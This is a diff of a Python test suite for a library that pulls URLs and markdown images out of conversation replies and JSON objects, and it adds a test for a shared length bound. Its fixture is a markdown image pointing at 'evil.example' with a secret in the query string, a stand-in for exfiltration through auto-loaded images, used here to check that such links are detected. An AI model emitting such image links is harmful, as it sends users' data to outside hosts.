@@ -12,7 +12,15 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ordain.contracts.conversation import Reply
-from ordain.contracts.text_links import LINKS_MAX, URL_CHARS, TextLink, links_of, texts_of
+from ordain.contracts.text_links import (
+    LINKS_MAX,
+    TEXT_CHARS,
+    URL_CHARS,
+    TextLink,
+    each_linked,
+    links_of,
+    texts_of,
+)
 
 SECRET = "http://evil.example/p.png?d=secret"
 
@@ -69,7 +77,9 @@ def test_any_text_has_links_of_bounded_form(text: str) -> None:
 
 
 def test_a_reply_has_them_beside_its_text() -> None:
-    """Made from the text, whatever was said of them; absent where there are none."""
+    """Made from the text and from what the header quotes, whatever was said of them; absent where
+    there are none.
+    """
     given_: dict[str, Any] = {
         "header": "h",
         "narrative": f"![a]({SECRET})",
@@ -79,13 +89,31 @@ def test_a_reply_has_them_beside_its_text() -> None:
     assert Reply.model_validate(given_).model_dump()["links"] == [
         {"url": SECRET, "host": "evil.example", "image": True}
     ]
-    assert "links" not in Reply(header=SECRET, narrative="None.", ok=True).model_dump()
+    assert "links" not in Reply(header="h", narrative="None.", ok=True).model_dump()
+    quoted = Reply(header=f'✓ v · "![a]({SECRET})"', narrative="None.", ok=True)
+    assert quoted.model_dump()["links"][0]["image"]
 
 
 def test_texts_of_a_value() -> None:
     """Every text of a JSON value, in its order."""
     assert texts_of(msgspec.json.decode(b'{"a": ["x", {"b": "y"}, 1], "c": "z"}')) == "x\ny\nz"
     assert texts_of(None) == ""
+
+
+def test_each_object_has_its_own_links_and_all_together_one_texts_bound() -> None:
+    """What a large one leaves of the bound is shared out: it hides no other's address, and an
+    object without one has no such field.
+    """
+    large = {"output": "x" * TEXT_CHARS + " http://late.example"}
+    small = {"thought": "![i](//i.example/a.png)", "output": {"a": ["http://o.example"]}}
+    told = each_linked([large, small, {"thought": None}])
+    assert [[link["host"] for link in one.get("links", ())] for one in told] == [
+        [],
+        ["i.example", "o.example"],
+        [],
+    ]
+    assert [one.keys() - {"links"} for one in told] == [large.keys(), small.keys(), {"thought"}]
+    assert "links" not in told[2]
 
 
 PIECES = (
